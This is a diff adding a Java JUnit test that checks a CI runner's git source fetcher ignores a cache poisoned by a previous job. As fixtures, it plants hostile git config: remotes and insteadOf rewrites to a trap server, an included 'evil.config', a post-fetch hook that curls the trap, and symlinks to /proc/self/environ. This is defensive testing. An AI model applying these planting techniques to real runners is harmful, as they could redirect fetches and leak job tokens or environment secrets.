@@ -1,0 +1,189 @@
+package dev.lambdarunner.sources;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.lambdarunner.testsupport.FakeGitLab;
+import dev.lambdarunner.testsupport.FakeJob;
+import dev.lambdarunner.testsupport.FakeRepo;
+import dev.lambdarunner.testsupport.FakeRunner;
+import dev.lambdarunner.testsupport.GitExchange;
+import dev.lambdarunner.testsupport.JobSpec;
+import dev.lambdarunner.testsupport.TrapServer;
+import org.eclipse.jgit.api.Git;
+import org.eclipse.jgit.lib.ObjectId;
+import org.eclipse.jgit.lib.Ref;
+import org.eclipse.jgit.transport.URIish;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Named;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.io.IOException;
+import java.io.StringWriter;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * What a job's code can plant in a repository's git object cache (it runs as the runner's user) is not trusted by
+ * the next job of that repository: its fetch goes to GitLab only, with the token, and its sources are GitLab's.
+ */
+class SourceFetcherPlantedCacheTest {
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final long MAX = 512L * 1024 * 1024;
+    private final FakeGitLab gitLab = FakeGitLab.start();
+    private final FakeRunner runner = gitLab.addRunner();
+    private final TrapServer trap = TrapServer.start();
+    @TempDir
+    Path tmp;
+
+    @AfterEach
+    void stop() {
+        gitLab.close();
+        trap.close();
+    }
+
+    /** Writes something into the warm cache {@code cache} of the repository at {@code gitLabUrl}. */
+    interface Planting {
+        void plant(Path cache, String gitLabUrl, String trapUrl) throws IOException;
+    }
+
+    static Stream<Named<Planting>> plantings() {
+        return Stream.of(
+                Named.of("a remote named like the repository's URL", (cache, url, trap) -> append(cache,
+                        "[remote \"" + url + "\"]\n\turl = " + trap + "/stolen.git\n")),
+                Named.of("url.<trap>.insteadOf the repository's URL", (cache, url, trap) -> append(cache,
+                        "[url \"" + trap + "/\"]\n\tinsteadOf = " + url.substring(0, url.lastIndexOf('/') + 1) + "\n")),
+                Named.of("an include of a file with such a remote", (cache, url, trap) -> {
+                    Path included = Files.writeString(cache.resolveSibling("evil.config"),
+                            "[remote \"" + url + "\"]\n\turl = " + trap + "/stolen.git\n");
+                    append(cache, "[include]\n\tpath = " + included + "\n");
+                }),
+                Named.of("origin pointing at the trap, http settings and hooks", (cache, url, trap) -> {
+                    append(cache, "[remote \"origin\"]\n\turl = " + trap + "/stolen.git\n"
+                            + "[http]\n\tsslVerify = false\n\textraHeader = X-Planted: 1\n"
+                            + "[core]\n\thooksPath = " + cache.resolve("hooks") + "\n");
+                    Path hook = Files.createDirectories(cache.resolve("hooks")).resolve("post-fetch");
+                    Files.writeString(hook, "#!/bin/sh\ncurl " + trap + "/hook\n");
+                    Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwx------"));
+                }),
+                Named.of("alternates, links and a planted ref", (cache, url, trap) -> {
+                    Path other = Files.createDirectories(cache.resolveSibling("planted-objects"));
+                    Files.createDirectories(cache.resolve("objects/info"));
+                    Files.writeString(cache.resolve("objects/info/alternates"), other + "\n");
+                    Files.createSymbolicLink(cache.resolve("shallow"), Path.of("/proc/self/environ"));
+                    Files.createSymbolicLink(cache.resolve("refs/heads/linked"), Path.of("/proc/self/environ"));
+                    Files.writeString(cache.resolve("refs/heads/planted"), "ref: refs/heads/main\n");
+                }));
+    }
+
+    @ParameterizedTest
+    @MethodSource("plantings")
+    void theNextJobFetchesFromGitLabOnlyAndGetsGitLabsSources(Planting planting) throws Exception {
+        FakeRepo repo = repo("group/victim");
+        SourceFetcher fetcher = SourceFetcher.cached(cacheDir(), MAX);
+        fetch(fetcher, repo, 20);
+        Path cache = new GitCache(cacheDir(), MAX).repositoryDir(new URIish(gitLab.url() + "/group/victim.git"));
+        planting.plant(cache, gitLab.url() + "/group/victim.git", trap.url());
+
+        Fetched next = fetch(fetcher, repo, 20);
+
+        assertThat(trap.hits()).isEmpty();
+        assertThat(next.exchanges()).isNotEmpty(); // it asked GitLab, with the job token
+        assertThat(next.exchanges()).noneMatch(GitExchange::sentObjects); // and the cache stayed warm
+        assertThat(next.log()).doesNotContain("Git object cache not usable");
+        assertThat(head(next.dir())).isEqualTo(repo.sha());
+        assertThat(next.dir().resolve("main.tf")).hasContent("resource \"terraform_data\" \"x\" {}");
+        assertThat(Files.readString(cache.resolve("config"))).doesNotContain("remote", "url", "include", "http");
+        try (Stream<Path> all = Files.walk(cache)) {
+            assertThat(all.filter(Files::isSymbolicLink)).isEmpty();
+        }
+        assertThat(cache.resolve("hooks")).doesNotExist();
+        assertThat(cache.resolve("objects/info/alternates")).doesNotExist();
+    }
+
+    @Test
+    void aRefOnlyTheCacheHasNeverReachesTheWorkspace() throws Exception {
+        FakeRepo repo = repo("group/full");
+        SourceFetcher fetcher = SourceFetcher.cached(cacheDir(), MAX);
+        fetch(fetcher, repo, 0);
+        Path cache = new GitCache(cacheDir(), MAX).repositoryDir(new URIish(gitLab.url() + "/group/full.git"));
+        // a branch GitLab does not have, on a commit the cache holds: full clones fetch refs/heads/*
+        Files.writeString(cache.resolve("refs/heads/planted"), repo.sha() + "\n");
+
+        Fetched next = fetch(fetcher, repo, 0);
+
+        try (Git git = Git.open(next.dir().toFile())) {
+            List<String> refs = git.getRepository().getRefDatabase().getRefs().stream().map(Ref::getName).toList();
+            assertThat(refs).isNotEmpty().noneMatch(name -> name.contains("planted"));
+        }
+        assertThat(cache.resolve("refs/heads/planted")).doesNotExist();
+    }
+
+    @Test
+    void filesPlantedNextToTheCachesAreRemoved() throws Exception {
+        FakeRepo repo = repo("group/tidy");
+        SourceFetcher fetcher = SourceFetcher.cached(cacheDir(), MAX);
+        fetch(fetcher, repo, 20);
+        Files.writeString(cacheDir().resolve("notes.txt"), "planted");
+        Files.createDirectories(cacheDir().resolve("0123456789abcdef0123456789abcdef.git.bak"));
+        Files.createSymbolicLink(cacheDir().resolve("fedcba9876543210fedcba9876543210.lock"), Path.of("/etc/hosts"));
+
+        fetch(fetcher, repo, 20);
+
+        try (Stream<Path> left = Files.list(cacheDir())) {
+            assertThat(left.map(p -> p.getFileName().toString()))
+                    .allMatch(name -> name.matches("[0-9a-f]{32}\\.(git|lock)"), "only caches and their locks")
+                    .hasSize(2);
+        }
+    }
+
+    private record Fetched(Path dir, String log, List<GitExchange> exchanges) {
+    }
+
+    /** Starts a job of {@code repo} on the fake, fetches its sources as the runner does, and ends the job. */
+    private Fetched fetch(SourceFetcher fetcher, FakeRepo repo, int depth) throws Exception {
+        FakeJob job = gitLab.startJob(runner, JobSpec.builder().repo(repo).depth(depth).build());
+        JsonNode git = JSON.readTree(job.payload()).get("git_info");
+        List<String> refspecs = new ArrayList<>();
+        git.get("refspecs").forEach(r -> refspecs.add(r.asText()));
+        Path dir = Files.createDirectories(tmp.resolve("builds/" + job.id() + "/project"));
+        SourceRequest request = new SourceRequest(git.get("repo_url").asText(), git.get("ref").asText(),
+                git.get("ref_type").asText(), git.get("sha").asText(), refspecs, git.get("depth").asInt(), true,
+                dir, Duration.ofMinutes(1));
+        int before = gitLab.gitExchanges().size();
+        StringWriter log = new StringWriter();
+        fetcher.fetch(request, log, () -> false);
+        List<GitExchange> all = gitLab.gitExchanges();
+        return new Fetched(dir, log.toString(), List.copyOf(all.subList(before, all.size())));
+    }
+
+    private static void append(Path cache, String text) throws IOException {
+        Files.writeString(cache.resolve("config"), Files.readString(cache.resolve("config")) + text);
+    }
+
+    private FakeRepo repo(String path) throws IOException {
+        Path source = Files.createDirectories(tmp.resolve("sources/" + path));
+        Files.writeString(source.resolve("main.tf"), "resource \"terraform_data\" \"x\" {}\n");
+        return gitLab.createRepo(path, source);
+    }
+
+    private Path cacheDir() {
+        return tmp.resolve("work/git-cache");
+    }
+
+    private static String head(Path dir) throws IOException {
+        try (Git git = Git.open(dir.toFile())) {
+            ObjectId head = git.getRepository().resolve("HEAD");
+            return head.name();
+        }
+    }
+}
